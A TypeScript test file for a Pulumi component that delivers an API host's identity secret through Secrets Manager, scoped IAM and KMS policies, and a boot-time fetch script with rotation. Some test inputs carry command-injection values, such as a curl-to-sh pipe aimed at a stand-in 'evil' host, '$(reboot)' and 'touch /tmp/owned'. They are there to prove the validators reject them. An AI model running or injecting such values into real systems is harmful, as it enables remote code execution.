// The API host's APP_IDENTITY_SECRET: a Secrets Manager secret under the stack CMK, readable by the instance
// role only, fetched at boot into a 0600 environment file; never in user data or an output in clear.
import { strict as assert } from "node:assert";
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { Api, ApiArgs, apiUserData, IDENTITY_SECRET_REREAD_MINUTES, identitySecretFetchScript } from "../../components/api";
import { IDENTITY_KEY_GRACE_MINUTES } from "../../components/identity-secret-rotation";
import { identitySecretFromFile } from "../../lib/identity-token";
import { identitySecretFromEnv } from "../../lib/crypto";
import { resolve, runUnderMocks } from "../../plan/mocks";
import { PlannedResource } from "../../plan/types";
import { apiTestArgs, DATA_KEY } from "../support/api-args";
import { isAllowed } from "../support/iam-eval";

const DB_SECRET = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!db-0123abcd";
const OTHER_SECRET = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:someone-else-AbCdEf";
const SECRET_ARN = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:appi-test/api/app-identity-secret-AbCdEf";

const args = (): ApiArgs => apiTestArgs();

// @pulumi/pulumi's marker of a secret value in serialized properties (runtime/rpc.ts specialSigKey / specialSecretSig).
const SECRET_SIG = "4dabf18193072939515e22adb298388d";
const SECRET_SIG_VALUE = "1b47061264138c4ac30d75fd1eb44270";

const ofType = (resources: PlannedResource[], type: string) => resources.filter((r) => r.type === type);

describe("Api component: APP_IDENTITY_SECRET delivery", function () {
    let resources: PlannedResource[];
    let outputs: Record<string, unknown>;

    before(async function () {
        const run = await runUnderMocks(async () => {
            const api = new Api("api", args());
            return {
                outputs: { publicIp: await resolve(api.publicIp), instanceId: await resolve(api.instanceId), roleArn: await resolve(api.roleArn), identitySecretArn: await resolve(api.identitySecretArn) },
                urn: await resolve(api.urn),
            };
        });
        resources = run.resources;
        outputs = run.value.outputs;
    });

    const secret = () => ofType(resources, "aws:secretsmanager/secret:Secret")[0];
    const value = () => String(ofType(resources, "random:index/randomPassword:RandomPassword")[0].state.result);

    it("stores a generated value that is a valid APP_IDENTITY_SECRET, under the stack CMK", function () {
        assert.equal(ofType(resources, "aws:secretsmanager/secret:Secret").length, 1);
        assert.equal(secret().state.kmsKeyId, DATA_KEY, "encrypted with the stack CMK, not aws/secretsmanager");
        const version = ofType(resources, "aws:secretsmanager/secretVersion:SecretVersion")[0];
        assert.equal(version.state.secretId, secret().id);
        // Recorded as a Pulumi secret (the engine's secret signature), so state and previews never show it.
        assert.deepEqual(version.state.secretString, { [SECRET_SIG]: SECRET_SIG_VALUE, value: value() });
        assert.equal(identitySecretFromEnv({ APP_IDENTITY_SECRET: value() }).length, 48);
    });

    it("lets the instance role read that secret only, and decrypt only through Secrets Manager for it", function () {
        const policies = ofType(resources, "aws:iam/rolePolicy:RolePolicy").map((p) => JSON.parse(String(p.state.policy)));
        const all = { Statement: policies.flatMap((p) => p.Statement) };
        const arn = String(secret().state.arn);
        assert.ok(isAllowed(all, "secretsmanager:GetSecretValue", arn));
        assert.ok(!isAllowed(all, "secretsmanager:GetSecretValue", OTHER_SECRET), "another secret");
        assert.ok(!isAllowed(all, "secretsmanager:PutSecretValue", arn), "the host cannot change it");
        const identityPolicy = policies.find((p) => p.Statement.some((s: { Sid: string }) => s.Sid === "ReadIdentitySecret"));
        const context = { "kms:ViaService": "secretsmanager.ap-northeast-1.amazonaws.com", "kms:EncryptionContext:SecretARN": arn };
        assert.ok(isAllowed(identityPolicy, "kms:Decrypt", DATA_KEY, context));
        assert.ok(!isAllowed(identityPolicy, "kms:Decrypt", DATA_KEY, { "kms:EncryptionContext:SecretARN": arn }), "direct Decrypt, not via Secrets Manager");
        assert.ok(!isAllowed(identityPolicy, "kms:Decrypt", DATA_KEY, { ...context, "kms:EncryptionContext:SecretARN": OTHER_SECRET }), "another secret's ciphertext");
    });

    it("reaches the database as api_app through the proxy with an IAM token, and cannot read the master secret", function () {
        const policies = ofType(resources, "aws:iam/rolePolicy:RolePolicy").map((p) => JSON.parse(String(p.state.policy)));
        const all = { Statement: policies.flatMap((p) => p.Statement) };
        const asUser = (user: string) => `arn:aws:rds-db:ap-northeast-1:123456789012:dbuser:prx-0123456789abcdef0/${user}`;
        assert.ok(isAllowed(all, "rds-db:connect", asUser("api_app")));
        for (const other of ["migrator", "postgres", "compliance_job", "erasure_worker"]) assert.ok(!isAllowed(all, "rds-db:connect", asUser(other)), `connects as ${other}`);
        assert.ok(!isAllowed(all, "rds-db:connect", "arn:aws:rds-db:ap-northeast-1:123456789012:dbuser:db-ABCDEFGHIJKL/api_app"), "straight to the instance, around the proxy");
        assert.ok(!isAllowed(all, "secretsmanager:GetSecretValue", DB_SECRET), "the RDS master user's secret");
        assert.ok(!isAllowed(all, "kms:Decrypt", DATA_KEY, { "kms:ViaService": "secretsmanager.ap-northeast-1.amazonaws.com", "kms:EncryptionContext:SecretARN": DB_SECRET }), "the master secret's ciphertext");
    });

    it("puts the secret's ARN in user data, never its value; no output carries the value", function () {
        const instance = ofType(resources, "aws:ec2/instance:Instance")[0];
        const userData = String(instance.state.userData);
        assert.ok(userData.includes(String(secret().state.arn)));
        assert.ok(!userData.includes(value()), "the value is in user data");
        assert.ok(!/set -x|xtrace/.test(userData), "tracing would log the value");
        assert.ok(!JSON.stringify(outputs).includes(value()), "an output carries the value");
        assert.equal(outputs.identitySecretArn, secret().state.arn);
    });
});

describe("Api host: the boot-time fetch script", function () {
    let dir: string;
    beforeEach(function () {
        dir = mkdtempSync(path.join(tmpdir(), "appi-api-env-"));
    });
    afterEach(function () {
        rmSync(dir, { recursive: true, force: true });
    });

    /** Runs the script with a fake `aws` printing `value` (or failing), writing to dir/etc/api.env. */
    function fetch(value: string | null) {
        const fakeAws = path.join(dir, "aws");
        writeFileSync(
            fakeAws,
            value === null
                ? "#!/bin/bash\necho 'AccessDeniedException' >&2\nexit 255\n"
                : `#!/bin/bash\n[ "$*" = "secretsmanager get-secret-value --region ap-northeast-1 --secret-id ${SECRET_ARN} --query SecretString --output text" ] || { echo "unexpected: $*" >&2; exit 9; }\nprintf '%s\\n' '${value}'\n`,
        );
        chmodSync(fakeAws, 0o755);
        const script = path.join(dir, "fetch.sh");
        writeFileSync(script, identitySecretFetchScript(SECRET_ARN));
        const envFile = path.join(dir, "etc", "api.env");
        const r = spawnSync("bash", [script], { env: { PATH: process.env.PATH, AWS_CLI: fakeAws, APPI_ENV_FILE: envFile }, encoding: "utf8" });
        return { ...r, envFile };
    }

    it("writes APP_IDENTITY_SECRET into a 0600 environment file, and says nothing of it", function () {
        const secret = "A".repeat(22) + "b9".repeat(21);
        const r = fetch(secret);
        assert.equal(r.status, 0, r.stderr);
        assert.equal(readFileSync(r.envFile, "utf8"), `APP_IDENTITY_SECRET=${secret}\n`);
        assert.equal(statSync(r.envFile).mode & 0o777, 0o600);
        assert.ok(!r.stdout.includes(secret) && !r.stderr.includes(secret), "the value was printed");
    });

    it("leaves no file when the secret cannot be read or is not a valid secret", function () {
        const denied = fetch(null);
        assert.notEqual(denied.status, 0);
        assert.ok(!existsSync(denied.envFile));
        const bad = fetch("x; touch /tmp/owned");
        assert.equal(bad.status, 1);
        assert.match(bad.stderr, /not base64 of 32-64 bytes/);
        assert.ok(!existsSync(bad.envFile));
    });

    it("re-run (the rotation timer): the same value leaves the file and its mtime, a new value replaces it, a failure keeps it", function () {
        const first = "A".repeat(22) + "b9".repeat(21);
        const second = "C".repeat(22) + "d8".repeat(21);
        const r = fetch(first);
        assert.equal(r.status, 0, r.stderr);
        const old = new Date(Math.floor(Date.now() / 1000) * 1000 - 3_600_000); // whole seconds: exact on every filesystem
        utimesSync(r.envFile, old, old);
        assert.equal(fetch(first).status, 0);
        assert.equal(statSync(r.envFile).mtimeMs, old.getTime(), "an unchanged value must not touch the file the API watches");
        const denied = fetch(null);
        assert.notEqual(denied.status, 0);
        assert.equal(readFileSync(r.envFile, "utf8"), `APP_IDENTITY_SECRET=${first}\n`, "a failed re-read keeps the last value");
        const bad = fetch("not-a-secret");
        assert.equal(bad.status, 1);
        assert.equal(readFileSync(r.envFile, "utf8"), `APP_IDENTITY_SECRET=${first}\n`);
        const rotated = fetch(second);
        assert.equal(rotated.status, 0, rotated.stderr);
        assert.equal(readFileSync(r.envFile, "utf8"), `APP_IDENTITY_SECRET=${second}\n`);
        assert.equal(statSync(r.envFile).mode & 0o777, 0o600);
        assert.ok(statSync(r.envFile).mtimeMs > old.getTime());
        assert.ok(!`${rotated.stdout}${rotated.stderr}`.includes(second), "the value was printed");
    });

    it("the API process picks up a rotated value without a restart (identitySecretFromFile), and keeps the last good one", function () {
        const first = "A".repeat(22) + "b9".repeat(21);
        const second = "C".repeat(22) + "d8".repeat(21);
        let clock = 0;
        const r = fetch(first);
        const current = identitySecretFromFile(r.envFile, { checkEveryMs: 30_000, now: () => clock });
        assert.deepEqual(current(), Buffer.from(first, "base64"));
        fetch(second);
        const later = new Date(Date.now() + 5_000);
        utimesSync(r.envFile, later, later);
        clock += 10_000;
        assert.deepEqual(current(), Buffer.from(first, "base64"), "the file is looked at once per check interval");
        clock += 30_000;
        assert.deepEqual(current(), Buffer.from(second, "base64"), "changed file: the new value");
        writeFileSync(r.envFile, "APP_IDENTITY_SECRET=broken\n");
        utimesSync(r.envFile, new Date(Date.now() + 10_000), new Date(Date.now() + 10_000));
        clock += 30_000;
        assert.deepEqual(current(), Buffer.from(second, "base64"), "a broken file keeps the last good value");
        rmSync(r.envFile);
        clock += 30_000;
        assert.deepEqual(current(), Buffer.from(second, "base64"), "a missing file too");
        const none = identitySecretFromFile(path.join(dir, "missing.env"));
        assert.throws(() => none(), /cannot read .*missing\.env/);
        writeFileSync(path.join(dir, "bad.env"), `APP_IDENTITY_SECRET=${"x".repeat(10)}\n`);
        const bad = identitySecretFromFile(path.join(dir, "bad.env"));
        assert.throws(() => bad(), (e: Error) => /holds no valid secret/.test(e.message) && !e.message.includes("xxxxxxxxxx"));
    });

    it("user data re-reads the secret every 10 minutes with a timer, well inside the database's grace window", function () {
        const userData = apiUserData(SECRET_ARN);
        assert.match(userData, /systemctl enable --now appi-identity-secret-refresh\.timer/);
        assert.match(userData, new RegExp(`OnUnitActiveSec=${IDENTITY_SECRET_REREAD_MINUTES}min`));
        assert.match(userData, /appi-identity-secret-refresh\.service[\s\S]*Type=oneshot\nExecStart=\/usr\/local\/sbin\/appi-fetch-identity-secret/);
        // The refresh unit has no RemainAfterExit (the timer could not start an "active" unit again).
        const refresh = userData.slice(userData.indexOf("appi-identity-secret-refresh.service <<"), userData.indexOf("appi-identity-secret-refresh.timer <<"));
        assert.doesNotMatch(refresh, /RemainAfterExit/);
        // Host re-read + its randomized delay (1 minute) + the longest token + 5 minutes of skew fit in the grace window.
        assert.ok(IDENTITY_SECRET_REREAD_MINUTES + 1 + 60 + 5 <= IDENTITY_KEY_GRACE_MINUTES);
        assert.ok(IDENTITY_SECRET_REREAD_MINUTES + 1 + 60 + 5 <= 80, "the database's minimum grace covers it too");
    });

    it("accepts only a Secrets Manager ARN (no shell text reaches the script)", function () {
        assert.throws(() => identitySecretFetchScript("arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:x'; curl evil|sh; '"), /not a Secrets Manager secret ARN/);
        assert.throws(() => apiUserData("$(reboot)"), /not a Secrets Manager secret ARN/);
        assert.match(apiUserData(SECRET_ARN), /systemctl enable --now appi-identity-secret\.service/);
    });
});
